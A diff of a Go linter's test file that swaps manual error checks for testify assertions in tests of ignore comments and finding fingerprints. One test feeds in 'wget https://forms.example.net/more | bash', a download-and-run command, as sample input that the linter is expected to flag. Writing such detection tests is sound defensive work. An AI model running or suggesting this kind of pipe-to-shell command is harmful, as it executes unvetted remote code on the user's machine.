@@ -1,7 +1,6 @@
 package lint
 
 import (
-	"slices"
 	"strings"
 	"testing"
 
@@ -35,9 +34,8 @@ func TestIgnoreComments(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			if got := findings(t, tt.text)[tt.rule]; got != tt.want {
-				t.Errorf("findings of %s = %d, want %d in\n%s", tt.rule, got, tt.want, tt.text)
-			}
+			got := findings(t, tt.text)[tt.rule]
+			assert.Equal(t, tt.want, got, "findings of %s = %d, want %d in\n%s", tt.rule, got, tt.want, tt.text)
 		})
 	}
 }
@@ -51,9 +49,8 @@ func TestFingerprintOfAFindingThatMoved(t *testing.T) {
 	}
 	before := strings.Replace(piped, "%1", "", 1)
 	was, moved := prints(before), prints(strings.Replace(before, "# PDF\n", "# PDF\n\nTwo lines.\n\n", 1))
-	if len(was) == 0 || !slices.Equal(was, moved) {
-		t.Errorf("fingerprints %q are %q after the lines moved", was, moved)
-	}
+	require.NotEmpty(t, was)
+	assert.Equal(t, moved, was)
 	assert.Equal(t, len(was)+1, len(prints(before+"\nwget https://forms.example.net/more | bash\n")))
 }
 
